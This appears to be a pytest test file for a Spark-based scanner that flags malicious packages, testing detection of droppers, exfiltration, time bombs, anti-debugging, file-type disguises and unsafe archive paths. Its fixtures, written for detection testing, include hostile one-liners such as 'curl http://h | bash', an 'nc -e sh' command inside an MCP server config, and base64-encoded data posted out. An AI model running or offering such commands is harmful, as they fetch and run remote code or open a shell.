"""File detectors on small snippets: hit, miss and a disguise of each."""

import hashlib
import io
import re
import tarfile
import zipfile

import pyarrow as pa
import pytest

from sparkwarden import values as V
from sparkwarden.operators import evasion as EV
from sparkwarden.operators import files as FL
from sparkwarden.operators import prefilter as PF
from sparkwarden.operators import scan as SC
from sparkwarden.operators import texts as TX
from sparkwarden.rules import Rule, select_rules
from sparkwarden.sources import archives as AR
from sparkwarden.sources import trees as TR

NOW = 1_720_000_000
FILES = "package_id string, ecosystem string, path string, content string, size bigint, ord bigint"


def files(spark, *items, ecosystem="pypi"):
    return spark.createDataFrame(
        [("p", ecosystem, path, content, len(content), i) for i, (path, content) in enumerate(items)], FILES
    )


def got(df, *columns):
    return sorted(tuple(r[c] for c in columns) for r in df.select(*columns).collect())


def test_install_file_raises_severity(spark):
    df = SC.rule_scan(files(spark, ("a-1/setup.py", "eval (x)"), ("a-1/lib/m.py", "eval(x)"), ("a-1/docs/r.md", "eval(x)")))
    assert got(df, "path", "severity") == [("a-1/lib/m.py", "LOW"), ("a-1/setup.py", "HIGH")]


def test_pth_always_signals_and_skipped_dir(spark):
    df = SC.rule_scan(files(spark, ("a/.github/x.pth", "eval(x)")))
    assert got(df, "key", "severity") == [(".pth file", "HIGH")]


def test_skipped_suffix_does_not_hide_install_files(spark):
    df = SC.rule_scan(files(spark, ("a/setup.cfg", "os.system('x')"), ("a/other.cfg", "os.system('x')")))
    assert got(df, "path") == [("a/setup.cfg",)]
    assert SC.file_tags(files(spark, ("a/setup.cfg", "os.system('x')"))).count() == 0


def test_every_rule_equals_its_regular_expression(spark):
    """The anchor literals never lose a match, whatever the case or the alphabet."""
    texts = ["EVAL (", "Exec(", "ſubprocess x", "oſ.system(", "new  FUNCTION (", "^= key", "a.XOR.b", "%appdata%", "Kıll os.kill(", "/LIBRARY/Caches/x",
             "http.GET(", "buffer.FROM(x, 'base64')", "compile(a, exec", "x.split('').reverse().join", "/tmp/a.SH", "chmod +X", "process.env.a ="]
    df = SC.prepared(files(spark, *[(f"a/m{i}.py", t) for i, t in enumerate(texts)]), select_rules())
    rules = select_rules()
    hits = {r["path"]: {rules[i].id for i in r["hits"]} for r in df.collect()}
    for i, text in enumerate(texts):
        want = {r.id for r in rules if re.search(r.pattern, text, 0 if r.case_sensitive else re.IGNORECASE)}
        assert hits[f"a/m{i}.py"] == want, text


def test_user_rules_override_and_scope(spark):
    user = [Rule("eval-call", "zzz", "critical", scope="install_script"), Rule("bad", "(", "low"), Rule("mine", "abc", "low", ecosystem="npm")]
    rules = select_rules(user)
    assert "bad" not in {r.id for r in rules} and len(rules) == len(V.RULES) + 1
    df = SC.rule_scan(files(spark, ("a/setup.py", "zzz abc eval(x)"), ("a/x.py", "zzz abc")), rules)
    assert got(df, "path", "severity") == [("a/setup.py", "CRITICAL")]


def test_compound_suppresses_subsets(spark):
    text = "process.env.A = 1; exec(x); requests.post(u)"
    df = SC.compound_signals(files(spark, ("a/setup.py", text)))
    assert [re.search("'(.*?)'", r["text"]).group(1) for r in df.collect()] == ["full-attack-chain"]


def test_chains_keep_sub_chains(spark):
    df = SC.attack_chains(files(spark, ("a/setup.py", "urlopen(u); base64.b64decode(x); exec(y)"), ("a/lib/deep/m.py", "urlopen(u); exec(y)")))
    ids = sorted(re.search("'(.*?)'", r["text"]).group(1) for r in df.collect())
    assert ids == ["dropper", "encoded-dropper", "obfuscated-execution"]


@pytest.mark.parametrize(
    "path,content,want",
    [
        ("logo.png", "import os\n", "extension '.png' but content is python"),
        ("LICENSE", "#!/bin/bash\n", "extensionless file 'LICENSE' contains shell code"),
        ("a.js", "def f(x):\n", "extension '.js' (expected javascript) but content is python"),
        ("a.py", "def f(x):\n", None),
        ("a.json", '{"import": 1}', None),
        ("a.txt", '{"a": 1} trailing\nimport os', "extension '.txt' (expected text) but content is python"),
        ("b.bin", "\x00" * 20 + "import os\n", None),
        ("n.md", "plain words", None),
    ],
)
def test_mismatch(spark, path, content, want):
    rows = FL.extension_mismatch(files(spark, (path, content))).collect()
    assert [r["mismatch"] for r in rows] == ([want] if want else [])


@pytest.mark.parametrize(
    "path,content,want",
    [
        ("a.py", "os.environ['PATH'] = x; os.ENVIRON[\"home\"]=y", ["env_mutation"] * 2),
        ("a.py", "os.environ['OTHER'] = x", []),
        ("a.py", f"time.time() > {NOW + 1000}", ["time_bomb"]),
        ("a.py", f"time.time() > {NOW - 1000}", []),
        ("a.py", "time.time() >= " + "9" * 60, ["time_bomb"]),
        ("a.py", "datetime.now() > datetime(2031, 1, 1)", ["time_bomb"]),
        ("a.py", "datetime.now() > datetime(2026, 1, 1)", []),
        ("package.json", '{"scripts": {"postinstall": "x", "test": "y"}}', ["build_hooks"]),
        ("package.json", '{"scripts": {"postinstall": "x"}} tail', []),
        ("setup.py", "subprocess.run(['x'])", ["build_hooks"]),
        ("build.rs", "fn main() {}", ["build_hooks"]),
        ("a.py", "requests.post(\n u, data=base64.b64encode(d))", ["derived_exfil"]),
        ("dist/a.py", "requests.post(u, data=base64.b64encode(d))", []),
        ("a.m", "NSXPCConnection; Gio.DBus", ["direct_xpc"] * 2),
        ("a.c", "ptrace(PTRACE_TRACEME)", ["anti_debug"]),
        ("a.c", "trace(x)", []),
    ],
)
def test_evasion(spark, path, content, want):
    assert [r["category"] for r in EV.evasion_static(files(spark, (path, content)), NOW).collect()] == want


def test_entropy(spark):
    dense = "".join(chr(33 + i) for i in range(90))
    rows = SC.entropy_lines(files(spark, ("a.py", f"x\n  {dense}  \n" + "a" * 200))).collect()
    assert [(r["line"], round(r["entropy"], 4)) for r in rows] == [(2, 6.4919)]


def level(spark, *signals):
    schema = "package_id string, category string, severity string, key string, text string, evasion boolean"
    rows = [("p", c, s, k, k, e) for c, s, k, e in signals]
    return PF.risk_levels(spark.createDataFrame([("p",)], "package_id string"), spark.createDataFrame(rows, schema)).first()["level"]


def test_risk_levels(spark):
    med = lambda k: ("compound", "MEDIUM", k, False)
    assert level(spark, ("x", "LOW", "a", False)) == "LOW"
    assert level(spark, med("a")) == "MEDIUM"
    assert level(spark, med("a"), med("a"), med("b")) == "MEDIUM"
    assert level(spark, med("a"), med("b"), med("c")) == "HIGH"
    assert level(spark, ("x", "HIGH", "a", False)) == "HIGH"
    assert level(spark, ("x", "HIGH", "a", False), ("x", "CRITICAL", "b", False)) == "CRITICAL"
    # Evasion alone never counts as high; two typosquats count twice each.
    assert level(spark, ("anti_debug", "HIGH", "a", True), ("time_bomb", "HIGH", "b", True)) == "MEDIUM"
    assert level(spark, *[("typosquat_candidate", "MEDIUM", k, False) for k in "ab"]) == "HIGH"


def test_cluster_collapses_only_without_high(spark):
    hooks = [("build_hooks", "MEDIUM", f"h{i}", True) for i in range(5)]
    assert level(spark, *hooks) == "MEDIUM"
    assert level(spark, *hooks, ("build_hooks", "HIGH", "x", True)) == "HIGH"


def test_rules_in_the_dialect_that_runs(spark):
    user = [Rule(id="named", pattern="(?P<n>needle)x", severity="high"), Rule(id="java", pattern="needle++", severity="high"), Rule(id="bad", pattern="(?P>n)", severity="high"), Rule(id="open", pattern="(", severity="high")]
    rules = select_rules(user)
    assert {"named", "java"} == {r.id for r in rules} & {"named", "java", "bad", "open"}
    found = got(SC.rule_scan(files(spark, ("a/m.py", "needlex")), rules), "key")
    assert found == [("(?<n>needle)x",), ("needle++",)]


def test_package_without_signals_has_level_none(spark):
    signals = spark.createDataFrame([], "package_id string, category string, severity string, key string, text string, evasion boolean")
    packages = spark.createDataFrame([("a",), ("a",), ("b",)], "package_id string")
    assert got(PF.risk_levels(packages, signals), "package_id", "n_signals", "level") == [("a", 0, "NONE"), ("b", 0, "NONE")]


def test_deep_nesting_spoils_no_other_document(spark):
    deep = '{"command": "nc -e", "x": ' + "[" * 100_000 + "]" * 100_000 + "}"
    df = spark.createDataFrame([("bad", deep), ("good", '{"s": {"command": "nc -e sh"}}')], "path string, content string")
    assert {r["path"] for r in TX.config_commands(df).collect() if "MCP server" in r["finding"]} == {"good"}


def test_suspicious_findings_have_context(spark):
    df = TX.suspicious_findings(files(spark, ("r.md", "x" * 60 + "\ncurl http://h | bash\n" + "y" * 60)).select("path", "content"))
    (row,) = df.collect()
    assert row["finding"] == "curl piped to shell: ..." + "x" * 39 + " curl http://h | bash " + "y" * 39 + "..."


def test_admission_cuts_at_first_overflow(spark):
    df = files(spark, ("a", "x" * 40), ("b", "x" * 70), ("c", "x"), ("/abs", "x"), ("d/../e", "x"))
    unsafe = [("/abs", "unsafe path"), ("d/../e", "unsafe path")]
    assert got(FL.admit_files(df), "path", "refused") == sorted([*unsafe, ("a", None), ("b", None), ("c", None)])
    assert got(FL.admit_files(df, budget=100), "path", "refused") == sorted([*unsafe, ("a", None), ("b", "over budget"), ("c", "over budget")])
    marked = FL.admit_files(df, max_file=50, budget=100)
    assert got(marked, "path", "refused") == sorted([*unsafe, ("a", None), ("b", "oversized"), ("c", None)])
    assert got(FL.oversized_flags(marked), "oversized", "unavailable") == [("1 file(s) above the size limits", None)]


def test_tree_hash_covers_large_files(spark):
    """Two trees that differ in one large file only have different digests, those of the plain definition."""
    rows = [("p", "b", "x" * 600_000), ("p", "a", "1"), ("q", "b", "x" * 599_999 + "y"), ("q", "a", "1"), ("r", "a", "1"), ("r", "b", "x" * 600_000)]
    df = spark.createDataFrame(rows, "package_id string, path string, content string").repartition(3)
    digest = {r["package_id"]: r["tree_sha256"] for r in FL.tree_hash(df).collect()}
    for package in "pqr":
        data = "".join(f"{path}\0{content}\n" for p, path, content in sorted(rows) if p == package)
        assert digest[package] == hashlib.sha256(data.encode()).hexdigest()
    assert digest["p"] == digest["r"] != digest["q"]


def tarball(*members):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as tar:
        for name, data in members:
            info = tarfile.TarInfo(name)
            if data is None:
                info.type, info.linkname = tarfile.SYMTYPE, "x"
                tar.addfile(info)
            else:
                info.size = len(data)
                tar.addfile(info, io.BytesIO(data))
    return out.getvalue()


def test_archives(spark):
    box = io.BytesIO()
    with zipfile.ZipFile(box, "w") as z:
        z.writestr("pkg/m.py", "x = 1")
        z.writestr("pkg/logo.png", "import os\n")
        z.writestr("pkg/real.png", "\x89PNG")
    tar = tarball(("p/a.py", b"a\xff"), ("p/link", None), ("../evil.py", b"x"), ("p/big.py", b"x" * (512 * 1024 + 1)), ("p/b.dat", b"words"))
    df = spark.createDataFrame([("x.whl", box.getvalue()), ("y.tgz", tar), ("z.tgz", b"broken")], "archive string, content binary")
    members = AR.unpack_archives(df)
    assert got(AR.archive_files(members), "archive", "path", "content") == [
        ("x.whl", "pkg/logo.png", "import os\n"), ("x.whl", "pkg/m.py", "x = 1"), ("y.tgz", "p/a.py", "a�"),
    ]
    assert got(AR.archive_errors(members), "archive") == [("z.tgz",)]
    assert AR.archive_manifest(df.filter("archive = 'y.tgz'")).count() == 3


def test_archives_leave_a_task_in_small_batches(spark):
    """What a task holds of unpacked members is bounded by their size, not by a number of rows alone; nothing is lost."""
    rows = [("a", "p", "x" * n, n, i, None) for i, n in enumerate([10, 3 << 20, 2 << 20, 5 << 20, *[1] * 600])]
    schema = pa.schema([("archive", pa.string()), ("path", pa.string()), ("content", pa.string()), ("size", pa.int64()), ("ord", pa.int64()), ("error", pa.string())])
    batches = list(AR.batched(iter(rows), schema))
    assert [b.num_rows for b in batches] == [3, 1, 256, 256, 88] and [tuple(r.values()) for b in batches for r in b.to_pylist()] == rows
    tar = tarball(*((f"p/{i}.py", b"x" * (512 * 1024)) for i in range(40)))
    held = [(b.num_rows, b.nbytes) for b in AR.batched(AR._files("y.tgz", tar, 512 * 1024, 100 << 20), schema)]
    assert sum(n for n, _ in held) == 40 and max(size for _, size in held) < 5 << 20
    df = spark.createDataFrame([(f"{i}.tgz", tar) for i in range(3)], "archive string, content binary").coalesce(1)
    assert AR.unpack_archives(df).count() == 120


def test_tree(spark, tmp_path):
    for name, text in {"p/z.py": "x", "p/a/b.py": "yy", "p/.git/c.py": "x", "p/LICENSE": "words", "p/run": "#!/bin/sh\n", "p/d.md": "text"}.items():
        f = tmp_path / name
        f.parent.mkdir(parents=True, exist_ok=True)
        f.write_text(text)
    tree = TR.read_tree(spark, str(tmp_path))
    assert got(TR.tree_files(tree), "package_id", "path") == [("p", "a/b.py"), ("p", "run"), ("p", "z.py")]
    # Files of a directory come before its subdirectories, so the budget drops a/b.py.
    assert got(TR.tree_files(tree, budget=11), "path", "refused") == [("a/b.py", "over budget"), ("run", None), ("z.py", None)]
